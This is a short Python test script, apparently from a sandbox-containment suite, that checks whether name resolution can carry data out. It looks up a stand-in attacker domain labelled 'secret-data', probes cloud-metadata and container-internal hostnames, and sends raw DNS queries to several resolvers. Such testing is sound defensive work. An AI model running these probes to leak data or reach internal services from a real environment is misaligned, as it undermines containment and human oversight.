# id: net_dns
# title: name resolution as a channel out
# group: network
# expect: contained
# also_ok: denied
import socket, struct
def contained(why): print("CONTAINED:", why, flush=True)
def escaped(what): print("ESCAPED:", what, flush=True)
bad = []
for name in ("secret-data.attack.invalid", "metadata.google.internal", "kubernetes.default.svc", "host.docker.internal"):
    try:
        bad.append((name, socket.getaddrinfo(name, 80)[0][4]))
    except OSError as e:
        print(name, e)
query = struct.pack(">HHHHHH", 7, 256, 1, 0, 0, 0) + b"\x06attack\x07invalid\0" + struct.pack(">HH", 1, 1)
for server in ("127.0.0.53", "127.0.0.11", "192.0.2.53", "10.96.0.10"):
    try:
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(0.3); s.sendto(query, (server, 53)); s.recv(512); bad.append(server)
    except OSError as e:
        print(server, e)
escaped(bad) if bad else contained("no name server")
